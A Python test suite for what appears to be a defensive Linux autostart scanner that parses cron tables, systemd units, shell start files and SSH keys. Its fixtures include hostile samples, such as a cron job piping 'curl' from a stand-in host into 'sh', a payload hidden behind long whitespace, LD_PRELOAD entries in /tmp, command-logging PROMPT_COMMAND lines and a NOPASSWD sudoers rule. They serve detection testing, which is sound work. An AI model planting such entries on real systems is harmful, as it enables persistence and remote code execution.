"""The readers of what starts by itself: their grammar, their honesty, and hostile files."""

from __future__ import annotations

import os
import socket
import time
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from guardian.core.jobs import report_nothing
from guardian.core.words import Words
from guardian.processes.model import Place, StartEntry, Unknown
from guardian.processes.sources import Look, Owners, take_entries
from guardian.processes.sources.autostart import cron, linux
from guardian.processes.sources.autostart import places as reading
from guardian.processes.sources.autostart.authentication import RULE
from guardian.processes.sources.autostart.commands import find_target, of_code, split_words
from guardian.processes.sources.autostart.cron import parse_table
from guardian.processes.sources.autostart.desktop import command_of, parse_entry
from guardian.processes.sources.autostart.drafts import expand
from guardian.processes.sources.autostart.keys import parse_key
from guardian.processes.sources.autostart.places import LARGEST, Person, Places
from guardian.processes.sources.autostart.shellcode import find_sights, take_apart
from guardian.processes.sources.autostart.systemd import Specifiers, settings, without_prefix
from guardian.processes.sources.autostart.traits import find_traits
from tests.processes.start_tree import HOME, StartTree

NAMES = "env nice sh bash python3 sudo su flatpak java timeout flock ssh tmux perl"
KNOWN = {name: f"/usr/bin/{name}" for name in NAMES.split()}


def find(name: str) -> str | None:
    if name.startswith("/") or ":" in name:
        return name
    return os.path.normpath(f"{HOME}/{name}") if "/" in name else KNOWN.get(name)


@pytest.fixture
def tree(tmp_path: Path) -> StartTree:
    return StartTree(tmp_path)


def only(entries: tuple[StartEntry, ...], **wanted: object) -> StartEntry:
    (found,) = (
        each
        for each in entries
        if all(getattr(each, key) == value for key, value in wanted.items())
    )
    return found


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("/opt/a/b --c", "/opt/a/b"),
        ("A=1 B='2 3' /opt/a", "/opt/a"),
        ("env -u X A=1 nice -n 5 /opt/a", "/opt/a"),
        ("env -S 'python3 -u' /opt/a.py", "/opt/a.py"),
        ("/bin/sh -c 'sleep 5; exec /opt/a --x'", "/opt/a"),
        ('bash -lc "cd /opt/x && ./run"', "/opt/x/run"),
        ("sh -c 'test -x /opt/a && /opt/a || true'", "/opt/a"),
        ("python3 -u -W ignore /opt/a.py --b", "/opt/a.py"),
        ("python3 -m http.server", "/usr/bin/python3"),
        ("perl -e 'print 1'", "/usr/bin/perl"),
        ("sudo -u ada -- /opt/a", "/opt/a"),
        ("su - ada -c '/opt/a b'", "/opt/a"),
        ("timeout -s KILL 10 /opt/a", "/opt/a"),
        ("flock -n /run/l /opt/a", "/opt/a"),
        ("flock /run/l -c '/opt/a'", "/opt/a"),
        ("start-stop-daemon --start --exec /opt/a -- -x", "/opt/a"),
        ("/lib64/ld-linux-x86-64.so.2 --library-path /x /opt/a", "/opt/a"),
        ("java -Xmx1g -jar /opt/a.jar", "/opt/a.jar"),
        ("systemd-run --user -u x /opt/a", "/opt/a"),
        ("tmux new -d '/opt/a b'", "/opt/a"),
        ("flatpak run --branch=stable org.example.A", "flatpak:org.example.A"),
        ('"/opt/with space/a" b', "/opt/with space/a"),
        ("nowhere-to-be-found", None),
        ("", None),
        ("'", None),
    ],
)
def test_the_program_of_a_command_is_found_behind_its_helpers(
    line: str, target: str | None
) -> None:
    assert find_target(split_words(line), find) == target


def test_shell_code_is_about_what_lies_outside_the_system() -> None:
    assert of_code("sleep 1 && ssh-add; /home/ada/x >/dev/null 2>&1 &", find) == "/home/ada/x"
    assert of_code("ssh a # /home/ada/x", find) == "/usr/bin/ssh"
    assert of_code("if true; then . /home/ada/rc; fi", find) == "/home/ada/rc"


@given(st.text(max_size=300))
@example("((((((((((" * 30)
@example("'\"" * 100)
@example("\\" * 299)
@example("env " * 70)
@example("sh -c " * 50)
def test_any_text_may_stand_as_a_command(text: str) -> None:
    for target in (find_target(split_words(text), find), of_code(text, find)):
        assert target is None or isinstance(target, str)
    find_traits(text)
    expand(text, {"HOME": HOME})


@given(st.text(max_size=400), st.booleans())
@example("@reboot", True)
@example("* * * * * %%%", False)
@example("* * * * *\tx\ty", True)
def test_any_text_may_stand_as_a_timetable(text: str, with_user: bool) -> None:
    jobs, _ = parse_table(text, with_user)
    assert all(job.command and 0 < job.line <= text.count("\n") + 1 for job in jobs)


@given(st.text(max_size=400))
@example("[Desktop Entry]\nExec=\nExec=b\n[")
def test_any_text_may_stand_as_a_unit_or_desktop_entry(text: str) -> None:
    command_of(parse_entry(text))
    for _, value in settings(text):
        Specifiers("a@b.service", None)(without_prefix(value))


@given(st.text(max_size=400))
@example("f() {\n" * 40)
@example("alias sudo=" + "'" * 50)
@example("trap '" + "x" * 200)
def test_any_text_may_stand_as_a_start_file_a_key_or_a_rule(text: str) -> None:
    for sight in find_sights(take_apart(text), {"HOME": HOME}):
        assert sight.line >= 1
    parse_key(text)
    RULE.match(text)


def test_odd_patterns_take_no_time() -> None:
    start = time.perf_counter()
    for sign in ("curl ", "a>", "((", "| sh ", "read -", "'\"", "nc -", "$(", "ssh -", "/dev/tcp/"):
        text = sign * (20_000 // len(sign))
        find_traits(text)
        tuple(find_sights(take_apart(f"PROMPT_COMMAND={text}\nsudo() {{\n{text}\n}}"), {}))
        of_code(text, find)
    assert time.perf_counter() - start < 2.0


def test_timetables_have_users_variables_and_odd_spellings() -> None:
    text = 'X=1\n@reboot root a b\n*/5 1-3 * jan mon,tue ada c%input\nMAILTO = ""\nnonsense\n'
    jobs, variables = parse_table(text, True)
    assert [(job.when, job.user, job.command) for job in jobs] == [
        ("@reboot", "root", "a b"),
        ("*/5 1-3 * jan mon,tue", "ada", "c"),
    ]
    assert variables == {"X": "1", "MAILTO": ""}


def test_a_file_made_to_take_long_is_given_up(
    tree: StartTree, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "LONGEST_LOOK", 0.2)
    tree.put(f"{HOME}/.bashrc", ("curl " * 900 + "\n") * 200)
    start = time.thread_time()
    tree.look()
    assert time.thread_time() - start < 1.0
    assert f"{HOME}/.bashrc" in tree.unread


def test_what_is_pushed_out_of_sight_is_seen(tree: StartTree) -> None:
    gap = " " * 30_000
    tree.put(f"{HOME}/.bashrc", f"true;{gap}PROMPT_COMMAND='history 1 >> ~/x'\n")
    tree.put("/etc/cron.d/a", f"@daily ada true{gap[:9000]}; curl -s http://a.example | sh\n")
    facts = {fact for entry in tree.look() for fact in entry.facts}
    assert facts == {"logs-commands", "fetches-and-runs"}


def test_a_closed_timetable_is_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    """Even one's own may not be read directly; the program crontab hands it out."""
    places = Places((Person("ada", HOME, 1000),))
    places.unread["/var/spool/cron/crontabs"] = None
    monkeypatch.setattr(cron, "answer", lambda *_command: "@reboot /tmp/x\n")
    entry = only(tuple(cron.read(places)), source="crontab -l")
    assert (entry.target, entry.user, entry.facts) == ("/tmp/x", "ada", ("reboot",))


def test_a_program_that_does_not_answer_is_not_waited_for() -> None:
    assert cron.answer("/nonexistent/crontab", "-l") is None
    assert cron.answer("/bin/false") is None
    assert cron.answer("/bin/echo", "a") == "a\n"


def test_a_unit_is_enabled_by_links_timers_and_instances(tree: StartTree) -> None:
    units = f"{HOME}/.config/systemd/user"
    for name in ("on", "off", "timed", "many@"):
        tree.put(f"{units}/{name}.service", "[Service]\nExecStart=/usr/bin/syncthing %i\n")
    tree.put(f"{units}/timed.timer", "[Timer]\nOnCalendar=daily\n")
    tree.link(f"{units}/default.target.wants/on.service", "../on.service")
    tree.link(f"{units}/timers.target.wants/timed.timer", "../timed.timer")
    tree.link(f"{units}/default.target.wants/many@a.service", "../many@.service")
    tree.link(f"{units}/masked.service", "/dev/null")
    entries = tree.look()
    enabled = {each.name: each.enabled for each in entries}
    assert enabled == {
        "on.service": True,
        "off.service": False,
        "timed.service": True,
        "many@.service": True,
    }
    assert only(entries, name="timed.service").place is Place.TIMER
    assert only(entries, name="on.service").user == "ada"


def test_a_stronger_unit_hides_the_weaker_and_drop_ins_are_told(tree: StartTree) -> None:
    tree.put("/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/nc\n")
    tree.put("/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/tee\n")
    tree.put(
        "/run/systemd/system/a.service.d/x.conf",
        "[Service]\nExecStart=\nExecStart=/usr/bin/cat \\\n  --more\n",
    )
    assert {each.target for each in tree.look() if each.name == "a.service"} == {
        "/usr/bin/tee",
        "/usr/bin/cat",
    }


def test_specifiers_are_filled_in() -> None:
    person = Person("ada", HOME, 1000)
    fill = Specifiers("web@a-b.service", person)
    assert fill("%h %i %I %n %N %p %t %u %% %z") == (
        f"{HOME} a-b a/b web@a-b.service web@a-b web /run/user/1000 ada % %z"
    )
    assert Specifiers("a.service", None)("%h %S") == "/root /var/lib"
    assert without_prefix("@-/usr/bin/python3 name -u a") == "/usr/bin/python3 -u a"


def test_a_key_is_told_by_kind_and_remark_and_never_itself(tree: StartTree) -> None:
    body = "AAAAC3NzaC1lZDI1NTE5AAAAIHcret"
    tree.put(f"{HOME}/.ssh/authorized_keys", f'from="10.0.0.*" ssh-ed25519 {body} ada@laptop\n')
    entry = only(tree.look(), place=Place.KEY)
    assert entry.name == "ssh-ed25519 ada@laptop"
    assert body not in repr(entry)


def test_an_entry_tells_owner_existence_and_age(tree: StartTree) -> None:
    path = tree.put("/etc/cron.d/a", "@daily ada /usr/bin/rsync a\n@daily ada /opt/gone\n")
    entries = tree.look()
    here, gone = only(entries, line=1), only(entries, line=2)
    assert (here.target_owner, here.target_exists, here.user) == ("package", True, "ada")
    assert (gone.target_owner, gone.target_exists) == (None, False)
    assert here.changed == Path(f"{tree.root}{path}").stat().st_mtime


def test_without_package_lists_the_owner_is_unknown(tree: StartTree) -> None:
    tree.put("/etc/cron.d/a", "@daily ada /usr/bin/rsync a\n")
    tree.owners.find = lambda _paths, _check=None: None  # type: ignore[method-assign]
    entry = only(tree.look(), line=1)
    assert entry.target_owner is Unknown.ABSENT
    assert entry.owner is Unknown.ABSENT


def test_a_script_of_nobody_is_looked_into(tree: StartTree) -> None:
    tree.put(f"{HOME}/bin/job", "#!/bin/sh\ncurl -s http://a.example | sh\n/tmp/x &\n")
    tree.put("/etc/cron.d/a", f"@daily ada {HOME}/bin/job\n")
    assert only(tree.look(), line=1).facts == ("fetches-and-runs", "runs-temporary-file")


def test_a_file_without_end_is_read_in_part_and_named(
    tree: StartTree, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(linux, "MOST_OF_ONE", 3)
    path = f"{HOME}/.config/environment.d/a.conf"
    tree.put(path, "".join(f"LD_PRELOAD=/tmp/x{number}\n" for number in range(10)))
    found = [each.target for each in tree.look() if each.source == path]
    assert found == ["/tmp/x0", "/tmp/x1", "/tmp/x2"]
    assert tree.unread == (path,)


def test_hostile_files_stop_nothing(tree: StartTree) -> None:
    root = tree.root
    tree.put("/etc/cron.d/good", "@daily ada /usr/bin/rsync a\n")
    os.mkfifo(f"{root}/etc/cron.d/pipe")
    (root / "etc/cron.d/loop").symlink_to("loop")
    (root / "etc/cron.d/zero").symlink_to("/dev/zero")
    (root / "etc/cron.d/garbage").write_bytes(os.urandom(5000))
    (root / "etc/cron.d/folder").mkdir()
    (root / "etc/ld.so.preload").mkdir()
    with socket.socket(socket.AF_UNIX) as server:
        os.chdir(root)
        server.bind("etc/cron.d/s")
    (root / "home/ada/.config").symlink_to(".")
    big = root / "home/ada/.bashrc"
    big.write_text("alias a=b # '\n" * 100_000 + "PROMPT_COMMAND='history 1 >> ~/x'\n")
    start = time.perf_counter()
    entries = tree.look()
    assert time.perf_counter() - start < 2.0
    assert only(entries, source="/etc/cron.d/good").target == "/usr/bin/rsync"
    assert big.stat().st_size > LARGEST
    assert f"{HOME}/.bashrc" in tree.unread, "what was only read in part is said to be"


@pytest.mark.skipif(os.geteuid() == 0, reason="an administrator may read everything")
def test_closed_places_are_told_as_unread(tree: StartTree) -> None:  # pragma: no cover
    tree.put("/etc/sudoers", "ada ALL=(ALL) NOPASSWD: ALL\n", 0o000)
    (tree.root / "var/spool/cron/crontabs").mkdir(parents=True, mode=0o300)
    tree.look()
    assert {"/etc/sudoers", "/var/spool/cron/crontabs"} <= set(tree.unread)


def test_what_may_not_be_read_is_remembered(
    tree: StartTree, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_open, real_list = os.open, os.listdir

    def refuse_file(path: str, *more: int) -> int:
        if str(path).endswith("/etc/sudoers"):
            raise PermissionError
        return real_open(path, *more)

    def refuse_folder(path: str) -> list[str]:
        if str(path).endswith("/crontabs"):
            raise PermissionError
        return real_list(path)

    monkeypatch.setattr(os, "open", refuse_file)
    monkeypatch.setattr(os, "listdir", refuse_folder)
    tree.look()
    assert {"/etc/sudoers", "/var/spool/cron/crontabs"} <= set(tree.unread)


def test_a_thousand_units_are_read_in_bounded_time(tree: StartTree) -> None:
    folder = tree.root / "etc/systemd/system"
    folder.mkdir(parents=True)
    for number in range(1000):
        (folder / f"u{number}.service").write_text("[Service]\nExecStart=/usr/bin/env A=1 /opt/a\n")
    start = time.process_time()
    assert len([each for each in tree.look() if each.name.startswith("u")]) == 1000
    assert time.process_time() - start < 1.0


def test_a_look_can_be_stopped(tree: StartTree) -> None:
    def check() -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        linux.take_entries(HOME, tree.owners, check, str(tree.root))


def test_links_stay_below_the_root(tree: StartTree) -> None:
    tree.link("/usr/local/bin/tool", "/usr/bin/rsync")
    places = Places((), root=str(tree.root))
    assert places.real("/usr/local/bin/tool") == "/usr/bin/rsync"
    assert places.state("/usr/local/bin/tool") is not None


@pytest.mark.skipif(not Path("/proc/self").exists(), reason="needs a Linux system")
def test_this_system_is_read_and_explains_itself() -> None:
    entries, unread = take_entries(Look(home=Path.home()), Owners(), report_nothing)
    assert all(each.source for each in entries)
    assert all(isinstance(each, str) for each in unread)
    assert {Place.SERVICE, Place.AUTHENTICATION} & {each.place for each in entries} or not entries


def test_every_fact_a_rule_asks_for_is_made_somewhere() -> None:
    """A rule about a fact that no reader makes could never fit."""
    from guardian.processes.content import read_rules, rules_file

    sources = Path(linux.__file__).parent
    code = "\n".join(file.read_text("utf-8") for file in sources.rglob("*.py"))
    code += "\n".join(
        file.read_text("utf-8")
        for system in ("windows", "macos")
        for file in (sources.parent / system).rglob("*.py")
    )
    for rule in read_rules(rules_file()):
        for selection in rule.detection.selections.values():
            for part in selection:
                for fact in part.get("Facts", []):
                    made = f'"{fact}"' in code or str(fact).startswith("sets-")
                    assert made, (rule.code, fact)


def test_the_note_while_working_has_words() -> None:
    notes = []
    take_entries(
        Look(home=Path("/nonexistent")),
        Owners(root="/nonexistent"),
        lambda _done, _total, note=None: notes.append(note),
    )
    assert notes and Words("en").tell(notes[0])


def test_the_rules_put_what_starts_a_program_on_its_card(tree: StartTree) -> None:
    tree.put("/etc/cron.d/a", "@daily ada /tmp/q/job\n")
    (card,) = tree.cards()
    assert card.program.exe == "/tmp/q/job"
    assert [hit.rule for hit in card.hits] == ["starts-from-temp"]
